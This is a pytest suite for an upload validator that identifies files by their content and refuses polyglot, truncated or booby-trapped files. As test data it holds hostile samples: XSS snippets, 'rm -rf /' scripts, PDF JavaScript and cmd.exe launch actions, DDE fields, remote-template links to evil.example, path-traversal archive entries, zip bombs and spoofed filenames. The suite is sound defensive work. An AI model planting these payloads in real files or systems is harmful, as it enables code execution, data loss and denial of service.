"""Files are told by their whole content: good ones are kept, what is two things at once is not."""

import io
import time
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from tests.support.sample_files import GOOD, archive, chunk, docx, docx_parts, jpeg, pdf, png, xlsx

from jiceng.kernel.errors import Refusal
from jiceng.kernel.files.kinds import KINDS, clean_name, recognise

PAGE = b"<html><script>alert(1)</script></html>"
JAR = archive({"a.class": b"\xca\xfe\xba\xbe"})


def kind_of(content: bytes, name: str, folder: Path) -> str:
    path = folder / "arrived"
    path.write_bytes(content)
    return recognise(path, name).media_type


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_told_by_its_content(name: str, tmp_path: Path) -> None:
    expected = next(kind.media_type for kind in KINDS if Path(name.lower()).suffix in kind.endings)
    assert kind_of(GOOD[name], name, tmp_path) == expected


@pytest.mark.parametrize("ending", [".pdf", ".png", ".jpg", ".docx", ".xlsx", ".txt", ".csv"])
@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_under_another_ending_is_refused(name: str, ending: str, tmp_path: Path) -> None:
    own = Path(name.lower()).suffix.replace("jpeg", "jpg")
    if own == ending or {own, ending} == {".txt", ".csv"}:
        return
    with pytest.raises(Refusal) as refused:
        kind_of(GOOD[name], f"a{ending}", tmp_path)
    assert refused.value.status == 415


def zip_with(name: str, content: bytes = b"x") -> bytes:
    return archive({**docx_parts(), name: content})


def related(target: str, kind: str = "attachedTemplate") -> bytes:
    """A Word file whose settings are related to something."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="r1" Type="{space}/{kind}" Target="{target}" TargetMode="External"/>'
    return zip_with("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>".encode())


@cache
def bomb() -> bytes:
    """Packed for who runs these two tests, not for everybody who reads this file."""
    return archive({**docx_parts(), "word/media/a.xml": b"\0" * (201 * 1024 * 1024)})


def lying() -> bytes:
    """A part whose directory entry claims to be ten bytes long."""
    content = bytearray(bomb())
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x01\x02") + 1)
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def encrypted() -> bytes:
    content = bytearray(docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.rfind(mark)
        content[at + flags] |= 1
    return bytes(content)


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, content in [*docx_parts().items(), ("Word/document.xml", PAGE)]:
            packed.writestr(name, content)
    return out.getvalue().replace(b"Word/document.xml", b"word/document.xml")


MACROS = str(docx_parts()["[Content_Types].xml"]).replace(
    "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
)
SPOILT: dict[str, tuple[str, bytes | Callable[[], bytes]]] = {
    "a page called a picture": ("a.png", PAGE),
    "a picture with a page behind it": ("a.png", png() + PAGE),
    "a picture with an archive behind it": ("a.png", png() + JAR),
    "a picture cut short": ("a.png", png()[:-3]),
    "a picture with a wrong checksum": ("a.png", png().replace(b"IDAT", b"IDAX")),
    "a picture that does not begin with its header": ("a.png", png()[:8] + chunk(b"tEXt", b"x") + png()[8:]),
    "a photograph with a page behind it": ("a.jpg", jpeg() + PAGE),
    "a photograph with an archive behind it": ("a.jpg", jpeg() + JAR),
    "a photograph that never ends": ("a.jpg", jpeg()[:-2]),
    "a photograph without a picture": ("a.jpg", b"\xff\xd8\xff\xd9"),
    "a photograph's first bytes before a page": ("a.jpg", b"\xff\xd8\xff\xe0" + PAGE),
    "a GIF that is a script": ("a.gif", b"GIF89a=1;alert(1)"),
    "a drawing": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "a page": ("a.html", PAGE),
    "a page without an ending": ("page", PAGE),
    "a program": ("a.exe", b"MZ\x90\0"),
    "a shell script": ("a.sh", b"#!/bin/sh\nrm -rf /\n"),
    "a drawing called text": ("a.txt", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "a page called text": ("a.txt", "标题\n< ScRiPt >alert(1)".encode()),
    "a page called a table": ("a.csv", b"a,b\n<img src=x onerror=alert(1)>,2\n"),
    "text in UTF-16": ("a.txt", "会议记录".encode("utf-16")),
    "text with control characters": ("a.txt", b"a\x1b]0;owned\x07b"),
    "a script called text": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "text that is no text": ("a.txt", bytes(range(128, 256)) * 4),
    "a document behind a page": ("a.pdf", PAGE + pdf()),
    "a document with an archive behind it": ("a.pdf", pdf() + JAR),
    "a document that is an archive's comment": ("a.pdf", pdf() + JAR + b"%%EOF"),
    "a document with a page behind it": ("a.pdf", pdf() + PAGE),
    "a document cut short": ("a.pdf", pdf()[:-8]),
    "a document with a script": ("a.pdf", pdf(b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n")),
    "a document that starts a program": ("a.pdf", pdf(b"3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n")),
    "a document with a file in it": ("a.pdf", pdf(b"3 0 obj\n<</Type/EmbeddedFile>>\nendobj\n")),
    "a document with a script by another spelling": (
        "a.pdf",
        pdf(b"3 0 obj\n<</S/J#61vaScript/#4aS(app.alert(1))>>\nendobj\n"),
    ),
    "a document of no version": ("a.pdf", b"%PDF-\n%%EOF"),
    "a plain archive": ("a.docx", JAR),
    "a Word file with a page before it": ("a.docx", PAGE + docx()),
    "a Word file with a page behind it": ("a.docx", docx() + PAGE),
    "a Word file with a macro": ("a.docx", zip_with("word/vbaProject.bin")),
    "a Word file that declares macros": ("a.docx", archive({**docx_parts(), "[Content_Types].xml": MACROS})),
    "a Word file with a program in it": ("a.docx", zip_with("word/media/a.exe")),
    "a Word file with a page in it": ("a.docx", zip_with("word/media/a.html", PAGE)),
    "a Word file with an object in it": ("a.docx", zip_with("word/embeddings/oleObject1.bin")),
    "a Word file that climbs out of its folder": ("a.docx", zip_with("../../etc/cron.d/x")),
    "a Word file with an absolute path": ("a.docx", zip_with("/etc/passwd")),
    "a Word file with a part twice": ("a.docx", twice()),
    "a Word file with a password": ("a.docx", encrypted()),
    "a Word file without its text": (
        "a.docx",
        archive({"[Content_Types].xml": docx_parts()["[Content_Types].xml"]}),
    ),
    "a Word file with entities": (
        "a.docx",
        archive({**docx_parts(), "[Content_Types].xml": '<!DOCTYPE t [<!ENTITY a "a">]><Types/>'}),
    ),
    "a Word file whose list of parts has no end": (
        "a.docx",
        lambda: archive({**docx_parts(), "[Content_Types].xml": "<Types>" + "<a/>" * 300_000 + "</Types>"}),
    ),
    "a Word file with entities in UTF-16": (
        "a.docx",
        archive(
            {
                **docx_parts(),
                "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-16"?>'
                '<!DOCTYPE t [<!ENTITY a "a">]><Types>&a;</Types>'.encode("utf-16"),
            }
        ),
    ),
    "a Word file that fetches its template": ("a.docx", lambda: related("https://evil.example/a.dotm")),
    "a Word file that fetches it from a share": ("a.docx", lambda: related("file:////evil.example/a.dotm")),
    "a Word file that fetches an object": ("a.docx", lambda: related("\\\\evil\\a", "oleObject")),
    "a Word file that asks a program": (
        "a.docx",
        zip_with("word/header1.xml", b"<w:instrText xml:space='preserve'> DDE cmd</w:instrText>"),
    ),
    "a workbook that asks a program": (
        "a.docx",
        zip_with("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>"),
    ),
    "a workbook called Word": ("a.docx", xlsx()),
    "a workbook cut short": ("a.xlsx", xlsx()[:-30]),
    "an archive that unpacks to far more": ("a.docx", bomb),
    "an archive that lies about how far it unpacks": ("a.docx", lying),
}


@pytest.mark.parametrize("what", SPOILT)
def test_whatever_is_something_else_or_something_more_is_refused(what: str, tmp_path: Path) -> None:
    name, content = SPOILT[what]
    with pytest.raises(Refusal, match=r"不能上传|不是完好") as refused:
        kind_of(content() if callable(content) else content, name, tmp_path)
    assert refused.value.status == 415


def test_a_script_s_name_inside_compressed_data_is_no_script(tmp_path: Path) -> None:
    packed = pdf(b"3 0 obj\n<</Length 8>>\nstream\n/JS (x)\nendstream\nendobj\n")
    assert kind_of(packed, "a.pdf", tmp_path) == "application/pdf"


def test_a_folder_of_the_writer_and_a_link_to_click_are_no_harm(tmp_path: Path) -> None:
    for target, kind in (
        ("file:///C:\\Templates\\公文.dotx", "attachedTemplate"),
        ("C:\\Templates\\公文.dotx", "attachedTemplate"),
        ("https://www.gov.cn/", "hyperlink"),
    ):
        assert kind_of(related(target, kind), "a.docx", tmp_path).endswith("wordprocessingml.document")


def test_a_picture_of_nothing_but_filling_takes_no_time(tmp_path: Path) -> None:
    scan = jpeg()[: -len(b"\xff\xd9")]
    began = time.process_time()
    assert kind_of(scan + b"\xff\x00" * 4_000_000 + b"\xff\xd9", "a.jpg", tmp_path) == "image/jpeg"
    assert time.process_time() - began < 1


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Refusal, match="空的"):
        kind_of(b"", "a.txt", tmp_path)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("学习记录.pdf", "学习记录.pdf"),
        ("C:\\Users\\周\\a.pdf", "a.pdf"),
        ("../../etc/passwd", "passwd"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x=1.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("in\u2060voice\u00ad.pdf", "invoice.pdf"),
        ('a"b;c.pdf', "ab;c.pdf"),
        ("e\u0301te\u0301.txt", "\u00e9t\u00e9.txt"),
        (".pdf", "文件.pdf"),
        ("", "文件"),
        ("长" * 300 + ".xlsx", "长" * 115 + ".xlsx"),
    ],
)
def test_a_name_keeps_what_is_harmless(given: str, kept: str) -> None:
    assert clean_name(given) == kept
    assert len(clean_name(given)) <= 120
